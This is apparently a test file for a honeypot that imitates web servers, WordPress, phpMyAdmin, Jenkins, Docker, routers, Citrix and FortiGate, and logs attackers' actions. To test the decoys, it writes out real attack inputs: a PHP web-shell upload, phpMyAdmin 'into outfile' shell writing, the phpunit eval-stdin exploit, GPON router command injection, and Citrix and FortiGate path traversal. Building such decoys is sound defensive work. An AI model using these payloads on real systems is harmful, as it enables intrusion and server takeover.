/** The decoys as a whole, over the real frame: servers, applications, logins, shells, and what is told of them. */
import { connect as connectHttp2 } from 'node:http2';
import { connect as connectTls } from 'node:tls';
import { afterEach, describe, expect, it } from 'vitest';
import { playService, toldOf, type PlayedClient, type PlayedService } from '../service/session.fixture.ts';
import { httpDecoy } from './http.decoy.ts';
import { httpsDecoy } from '../https/https.decoy.ts';

const open: PlayedService[] = [];
afterEach(async () => {
  for (const service of open.splice(0)) await service.close();
});

type Settings = Readonly<Record<string, unknown>>;
const ACCEPT = {
  credentials: { accept: [{ user: 'admin', password: 'secret' }], anyAfterTries: false, weakPairs: false },
};

function play(config: Settings = {}): PlayedService {
  const service = playService(httpDecoy, { ...ACCEPT, ...config });
  open.push(service);
  return service;
}

function with_(application: string, more: Settings = {}): PlayedService {
  return play({ applications: [{ application, ...more }] });
}

/** Sends one request over a connection of its own. */
async function ask(
  service: PlayedService,
  method: string,
  target: string,
  options: { headers?: string; body?: string } = {},
) {
  const client = service.connect();
  const length = options.body === undefined ? '' : `Content-Length: ${Buffer.byteLength(options.body, 'latin1')}\r\n`;
  await client.send(
    `${method} ${target} HTTP/1.1\r\nHost: www.example.org\r\nConnection: close\r\n${options.headers ?? ''}${length}\r\n${options.body ?? ''}`,
  );
  await settled(client);
  return parse(client.text);
}

const form = (service: PlayedService, target: string, body: string, headers = '') =>
  ask(service, 'POST', target, { headers: `Content-Type: application/x-www-form-urlencoded\r\n${headers}`, body });

/** Until nothing comes any more: what runs on the machine takes turns of its own. */
async function settled(client: PlayedClient): Promise<void> {
  for (let i = 0; i < 40 && !client.closed; i++) await client.settle(1);
}

function parse(text: string) {
  const end = text.indexOf('\r\n\r\n');
  const [status = '', ...lines] = text.slice(0, end).split('\r\n');
  const body = text.slice(end + 4);
  const chunked = lines.some((line) => /^transfer-encoding: chunked/i.test(line));
  return {
    status: Number(status.split(' ')[1]),
    headers: lines,
    cookies: lines
      .filter((line) => line.startsWith('Set-Cookie: '))
      .map((line) => line.slice(12).split(';')[0]!)
      .join('; '),
    body: chunked ? body.replace(/^[0-9a-f]+\r\n/, '').replace(/\r\n0\r\n\r\n$/, '') : body,
  };
}

describe('a plain server', () => {
  it('shows the page that its package brings, and tells of the request', async () => {
    const service = play();
    const answer = await ask(service, 'GET', '/?q=1', {
      headers: 'User-Agent: probe/1\r\nReferer: http://x.example/\r\n',
    });
    expect(answer.status).toBe(200);
    expect(answer.body).toContain('Welcome to nginx!');
    expect(toldOf(service.events)).toEqual(['http-connect', 'http-request success', 'http-disconnect']);
    expect(service.events[1]).toMatchObject({
      url: { original: '/?q=1', path: '/', query: 'q=1', domain: 'www.example.org' },
      http: {
        version: '1.1',
        request: { method: 'GET', referrer: 'http://x.example/' },
        response: { status_code: 200 },
      },
      user_agent: { original: 'probe/1' },
    });
  });

  it('answers what comes in pieces and what comes at once', async () => {
    const client = play().connect();
    for (const byte of 'GET / HTTP/1.1\r\nHost: a\r\n\r\n') await client.send(byte);
    expect(parse(client.take()).status).toBe(200);
    await client.send('HEAD / HTTP/1.1\r\nHost: a\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\n\r\n');
    expect(client.take().match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 404']);
    expect(client.closed).toBe(false);
  });

  it('tells of what it could not understand', async () => {
    const service = play();
    const client = service.connect();
    await client.send('\x03\0\0\x13\x0e\xe0\0\0');
    await client.settle();
    expect(client.text).toContain('400 Bad Request');
    expect(
      service.events.some(({ event, http }) => event.action === 'http-request' && http?.response?.status_code === 400),
    ).toBe(true);
  });

  it('lets go of who says nothing', async () => {
    const service = play();
    const client = service.connect();
    await client.send('GET / HTTP/1.1\r\n');
    await client.settle(61_000);
    expect(client.closed).toBe(true);
  });

  it.each([
    ['apache', 'Server: Apache/2.4'],
    ['lighttpd', 'Server: lighttpd/1.4.69'],
  ])('is %s where that is what it shall be', async (server, expected) => {
    const answer = await ask(play({ server }), 'GET', '/nowhere');
    expect(answer.status).toBe(404);
    expect(answer.headers.some((line) => line.startsWith(expected))).toBe(true);
  });

  it('Apache parts several ranges by one boundary for as long as it runs', async () => {
    const boundary = async (service: PlayedService): Promise<string | undefined> => {
      const { headers } = await ask(service, 'GET', '/', { headers: 'Range: bytes=0-1,4-5\r\n' });
      return /boundary=([0-9a-f]{1,16})$/m.exec(headers.join('\n'))?.[1];
    };
    const service = play({ server: 'apache' });
    const first = await boundary(service);
    expect(first).toBeDefined();
    expect(await boundary(service)).toBe(first);
    expect(await boundary(play({ server: 'apache' }))).not.toBe(first);
  });

  it('writes its pages as that version did', async () => {
    const page = async (version: string) => (await ask(play({ server: 'apache', version }), 'GET', '/nowhere')).body;
    expect(await page('2.4.52')).toContain('-//IETF//DTD HTML 2.0//EN');
    expect(await page('2.4.71')).toContain('-//W3C//DTD HTML 4.01//EN');
  });

  it('speaks HTTP/2 in clear text as lighttpd does', async () => {
    const service = play({ server: 'lighttpd' });
    expect(await overHttp2(service, '/')).toMatchObject({ status: 200 });
  });
});

describe('HTTPS', () => {
  const over = (config: Settings = {}) => {
    const service = playService(httpsDecoy, { ...ACCEPT, ...config });
    open.push(service);
    return service;
  };

  it('tells who the client is before it lets it speak', async () => {
    const service = over();
    const client = service.connect();
    const tls = connectTls({ socket: client.stream, rejectUnauthorized: false, servername: 'www.example.org' });
    let text = '';
    tls.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
    tls.on('error', () => {});
    tls.write('GET / HTTP/1.1\r\nHost: a\r\n\r\n');
    for (let i = 0; i < 20 && text === ''; i++) await client.settle(1);
    expect(text).toContain('HTTP/1.1 200 OK');
    const hello = service.events.find(({ tls: told }) => told?.client?.ja3 !== undefined);
    expect(hello?.tls?.client).toMatchObject({ server_name: 'www.example.org' });
    expect(hello?.netsentinel?.tls?.ja4).toMatch(/^t13d/);
    tls.destroy();
  });

  it('speaks HTTP/2 where the client can', async () => {
    const service = over({ applications: [{ application: 'wordpress' }] });
    const answer = await overHttp2(service, '/wp-login.php', true);
    expect(answer.status).toBe(200);
    expect(answer.body).toContain('loginform');
    expect(service.events.find(({ event }) => event.action === 'https-request')).toMatchObject({
      http: { version: '2' },
    });
  });

  it('says so where somebody comes in clear text', async () => {
    const client = over().connect();
    await client.send('GET / HTTP/1.1\r\nHost: a\r\n\r\n');
    expect(client.text).toContain('The plain HTTP request was sent to HTTPS port');
  });
});

describe('WordPress', () => {
  it('names its users, refuses, lets in, and takes a shell that then answers', async () => {
    const service = play({ applications: [{ application: 'wordpress' }] });
    const users = JSON.parse((await ask(service, 'GET', '/wp-json/wp/v2/users')).body) as readonly {
      readonly slug: string;
    }[];
    expect(users.length).toBeGreaterThan(0);
    expect((await form(service, '/wp-login.php', 'log=admin&pwd=wrong')).body).toMatch(
      /The password you entered for the username|is not registered/,
    );
    const login = await form(service, '/wp-login.php', 'log=admin&pwd=secret&redirect_to=%2Fwp-admin%2F');
    expect(login.status).toBe(302);
    expect((await ask(service, 'GET', '/wp-admin/')).status).toBe(302);
    const cookies = `Cookie: ${login.cookies}\r\n`;
    expect((await ask(service, 'GET', '/wp-admin/', { headers: cookies })).body).toContain('Dashboard');
    const upload = `--b\r\nContent-Disposition: form-data; name="async-upload"; filename="up.php"\r\n\r\n<?php system($_GET['k']); ?>\r\n--b--\r\n`;
    await ask(service, 'POST', '/wp-admin/media-new.php', {
      headers: `${cookies}Content-Type: multipart/form-data; boundary=b\r\n`,
      body: upload,
    });
    expect((await ask(service, 'GET', '/wp-content/uploads/2026/11/up.php?k=id')).body).toBe(
      'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n',
    );
    const told = toldOf(service.events);
    expect(told).toContain('http-login failure');
    expect(told).toContain('http-login success');
    expect(told).toContain('http-file');
    expect(service.events.find(({ event }) => event.action === 'http-command')?.process?.command_line).toBe('id');
  });

  it('counts each guess of a multicall', async () => {
    const service = with_('wordpress');
    const call = (password: string) =>
      `<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>${password}</string></value></data></array></value></data></array></value></member></struct></value>`;
    const body = `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${call('a')}${call('secret')}</data></array></value></param></params></methodCall>`;
    const answer = await ask(service, 'POST', '/xmlrpc.php', { headers: 'Content-Type: text/xml\r\n', body });
    expect(answer.body).toContain('Incorrect username or password');
    expect(answer.body).toContain('isAdmin');
    const logins = service.events.filter(({ event }) => event.action === 'http-login');
    expect(logins.map(({ netsentinel }) => netsentinel?.credential?.password)).toEqual(['a', 'secret']);
  });

  it('answers as a blog elsewhere too', async () => {
    const service = with_('wordpress');
    for (const [target, status] of [
      ['/', 200],
      ['/?author=1', 301],
      ['/readme.html', 200],
      ['/wp-json/', 200],
      ['/wp-json/wp/v2/users/99', 404],
      ['/wp-json/none', 404],
      ['/xmlrpc.php', 405],
      ['/wp-admin/admin-ajax.php', 400],
      ['/wp-content/plugins/akismet/readme.txt', 200],
      ['/wp-content/plugins/none/readme.txt', 404],
      ['/wp-includes/css/buttons.min.css', 200],
      ['/robots.txt', 200],
      ['/a-page-that-is-not', 404],
    ] as const)
      expect([target, (await ask(service, 'GET', target)).status]).toEqual([target, status]);
  });
});

describe('what was left behind', () => {
  it('is found with credentials of its own', async () => {
    const service = play();
    const env = await ask(service, 'GET', '/.env');
    expect(env.body).toMatch(/DB_PASSWORD=\S{20}/);
    expect((await ask(service, 'GET', '/.git/HEAD')).body).toBe('ref: refs/heads/master\n');
    expect((await ask(play({ leaks: false }), 'GET', '/.env')).status).toBe(404);
  });

  it('answers to commands on the machine', async () => {
    const service = play();
    expect((await ask(service, 'GET', '/shell.php?cmd=id;pwd')).body).toContain('uid=33(www-data)');
    expect(
      (
        await form(
          service,
          '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
          '<?php echo md5("x"); system("whoami"); ?>',
        )
      ).body,
    ).toBe('9dd4e461268c8034f5c8564e155c67a6www-data\n');
    await form(service, '/c99.php', `pass=${encodeURIComponent("file_put_contents('left.php','<?php echo 5; ?>');")}`);
    expect((await ask(service, 'GET', '/shell.php?cmd=cat+left.php')).body).toBe('<?php echo 5; ?>');
    expect((await ask(play({ webShells: false }), 'GET', '/shell.php?cmd=id')).status).toBe(404);
  });
});

describe('what an attacker put into the web root', () => {
  it('is there for them and for nobody else', async () => {
    const service = play();
    await ask(service, 'GET', '/shell.php?cmd=echo+owned+%3E+index.html%3Becho+%27%3C%3Fphp+echo+7%3B%27+%3E+n.php');
    const theirs = async (ip: string, target: string) => {
      const client = service.connect({ ip });
      await client.send(`GET ${target} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
      await settled(client);
      return parse(client.text).body;
    };
    expect(await theirs('198.51.100.7', '/')).toBe('owned\n');
    expect(await theirs('198.51.100.7', '/n.php')).toBe('7');
    expect(await theirs('198.51.100.8', '/')).toContain('Welcome to nginx!');
    expect(await theirs('198.51.100.8', '/n.php')).toContain('404 Not Found');
  });
});

describe('other applications', () => {
  it('phpMyAdmin refuses as MySQL does, and lets in', async () => {
    const service = play({
      credentials: { accept: [{ user: 'root', password: 'x' }], anyAfterTries: false },
      applications: [{ application: 'phpmyadmin', path: '/pma' }],
    });
    expect((await ask(service, 'GET', '/pma/')).body).toContain('pma_username');
    expect((await form(service, '/pma/index.php', 'pma_username=root&pma_password=y')).body).toContain(
      "Access denied for user 'root'@'localhost' (using password: YES)",
    );
    const login = await form(service, '/pma/index.php', 'pma_username=root&pma_password=x');
    expect(login.status).toBe(302);
    const asked = await form(
      service,
      '/pma/index.php?route=/sql',
      `sql_query=${encodeURIComponent("select '<?php system($_GET[1]);' into outfile '/var/www/html/z.php'")}`,
      `Cookie: ${login.cookies}\r\n`,
    );
    expect(asked.body).toContain('success');
    expect(service.events.find(({ event }) => event.action === 'http-query')?.netsentinel?.statement).toContain(
      'outfile',
    );
    expect((await ask(service, 'GET', '/shell.php?cmd=cat+z.php')).body).toContain('system($_GET[1])');
  });

  it('Docker makes containers whose commands run', async () => {
    const service = with_('docker');
    expect(JSON.parse((await ask(service, 'GET', '/v1.24/version')).body)).toMatchObject({ ApiVersion: '1.43' });
    const made = await ask(service, 'POST', '/containers/create', {
      headers: 'Content-Type: application/json\r\n',
      body: '{"Image":"alpine","Cmd":["sh","-c","echo x > /mnt/root/y"]}',
    });
    expect(made.status).toBe(201);
    const { Id } = JSON.parse(made.body) as { readonly Id: string };
    expect((await ask(service, 'POST', `/containers/${Id}/start`)).status).toBe(204);
    expect((await ask(service, 'GET', `/containers/${Id}/json`)).status).toBe(200);
    expect(service.events.find(({ event }) => event.action === 'http-file')?.file?.path).toBe('/root/y');
    for (const target of ['/_ping', '/info', '/containers/json', '/images/json'])
      expect((await ask(service, 'GET', target)).status).toBe(200);
    expect((await ask(service, 'GET', '/none')).status).toBe(404);
  });

  it.each([
    ['jenkins', '/j_spring_security_check', 'j_username=admin&j_password=secret', 302],
    ['gitlab', '/users/sign_in', 'user[login]=admin&user[password]=no', 200],
    ['router', '/login.cgi', 'username=admin&password=secret', 302],
    ['camera', '/login.html', 'usr=admin&pwd=secret', 200],
    ['fortigate', '/remote/logincheck', 'username=admin&credential=secret', 200],
    ['citrix', '/cgi/login', 'login=nsroot&passwd=no', 302],
  ] as const)('%s asks for a name', async (application, target, body, status) => {
    const service = with_(application);
    expect((await form(service, target, body)).status).toBe(status);
    expect(toldOf(service.events).some((told) => told.startsWith('http-login'))).toBe(true);
  });

  it.each([
    ['jenkins', '/login', 'j_username'],
    ['gitlab', '/users/sign_in', 'user[login]'],
    ['router', '/', 'password'],
    ['camera', '/', 'pwd'],
    ['fortigate', '/remote/login', 'credential'],
    ['citrix', '/vpn/index.html', 'passwd'],
    ['nas', '/', 'openmediavault'],
    ['kubernetes', '/api/v1/pods', 'system:anonymous'],
    ['kubelet', '/pods', 'kube-proxy-'],
    ['elasticsearch', '/_cat/indices?v', 'docs.count'],
    ['elasticsearch', '/_search?pretty', 'hits'],
    ['cloud-metadata', '/latest/meta-data/', 'iam/'],
  ] as const)('%s shows what it is at %s', async (application, target, expected) => {
    expect((await ask(with_(application), 'GET', target)).body).toContain(expected);
  });

  it('Jenkins runs what the console is given', async () => {
    const service = with_('jenkins');
    const login = await form(service, '/j_spring_security_check', 'j_username=admin&j_password=secret');
    const script = encodeURIComponent('println "uname -s".execute().text');
    expect((await form(service, '/scriptText', `script=${script}`, `Cookie: ${login.cookies}\r\n`)).body).toBe(
      'Linux\n',
    );
    expect((await ask(service, 'GET', '/script')).status).toBe(403);
  });

  it('routers run what is put behind a separator', async () => {
    const service = with_('router');
    expect((await form(service, '/GponForm/diag_Form', 'XWebPageName=diag&dest_host=`id`')).body).toContain(
      'uid=0(root)',
    );
    expect((await ask(service, 'GET', '/shell?cd+/tmp;id')).body).toContain('uid=0(root)');
  });

  it('a kubelet runs commands in its pods', async () => {
    const service = with_('kubelet');
    const { items } = JSON.parse((await ask(service, 'GET', '/pods')).body) as {
      readonly items: readonly { readonly metadata: { readonly name: string } }[];
    };
    const pod = items.at(-1)!.metadata.name;
    expect((await form(service, `/run/default/${pod}/web`, 'cmd=id')).body).toContain('uid=0(root)');
  });

  it.each([
    ['fortigate', '/remote/logincheck', 'username=admin&credential=secret', '/sslvpn/portal.html'],
    ['citrix', '/cgi/login', 'login=admin&passwd=secret', '/cgi/setclient?wica'],
  ] as const)(
    '%s knows who signed in by a cookie that nobody else could make',
    async (application, target, body, home) => {
      const service = with_(application);
      const { cookies } = await form(service, target, body);
      const again = (await form(service, target, body)).cookies;
      expect(again).not.toBe(cookies);
      const shown = async (cookie: string) =>
        (await ask(service, 'GET', home, { headers: `Cookie: ${cookie}\r\n` })).status;
      expect(await shown(cookies)).toBe(200);
      expect(await shown(cookies.replace(/=(.)/, (_, first) => (first === 'A' ? '=B' : '=A')))).toBe(302);
      expect(await shown('')).toBe(302);
    },
  );

  it('Citrix and FortiGate give way where the real ones did', async () => {
    const citrix = with_('citrix', {});
    expect((await form(citrix, '/vpn/../vpns/portal/scripts/newbm.pl', 'title=BLOCK=%27id%27')).body).toContain(
      'uid=65534(nobody)',
    );
    const fortigate = with_('fortigate');
    expect(
      (await ask(fortigate, 'GET', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession')).body,
    ).toContain('fgt_lang');
  });
});

async function overHttp2(
  service: PlayedService,
  path: string,
  secure = false,
): Promise<{ status: number; body: string }> {
  const client = service.connect();
  const socket = secure
    ? connectTls({ socket: client.stream, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
    : client.stream;
  const session = connectHttp2(secure ? 'https://www.example.org' : 'http://www.example.org', {
    createConnection: () => socket,
  });
  session.on('error', () => {});
  const request = session.request({ ':path': path });
  let status = 0;
  let body = '';
  let done = false;
  request.on('response', (headers) => (status = Number(headers[':status'])));
  request.on('data', (chunk: Buffer) => (body += chunk.toString()));
  request.on('end', () => (done = true));
  request.on('error', () => (done = true));
  for (let i = 0; i < 60 && !done; i++) await client.settle(1);
  session.destroy();
  return { status, body };
}

describe('pages that a person looks at', () => {
  it.each([
    ['wordpress', '/'],
    ['wordpress', '/wp-login.php'],
    ['phpmyadmin', '/'],
    ['jenkins', '/login'],
    ['gitlab', '/users/sign_in'],
    ['router', '/'],
    ['camera', '/'],
    ['nas', '/'],
    ['fortigate', '/remote/login'],
    ['fortigate', '/login'],
    ['citrix', '/vpn/index.html'],
  ])('%s %s has its style, and what it asks for is there', async (application, path) => {
    const service = with_(application);
    const { body } = await ask(service, 'GET', path);
    const asked = [...body.matchAll(/<(?:link|script)\b[^>]*?\b(?:href|src)=(["'])([^"']+\.(?:css|js)[^"']*)\1/g)].map(
      (match) => new URL(match[2]!, `http://www.example.org${path}`).pathname,
    );
    expect(asked.length).toBeGreaterThan(0);
    const sizes: number[] = [];
    for (const file of asked) {
      const answer = await ask(service, 'GET', file);
      expect(`${file} ${answer.status}`).toBe(`${file} 200`);
      expect(answer.headers.join('\n')).toMatch(/^Content-Type: (?:text\/css|application\/javascript)/m);
      sizes.push(answer.body.length);
    }
    expect(Math.max(...sizes)).toBeGreaterThan(1000);
  });
});
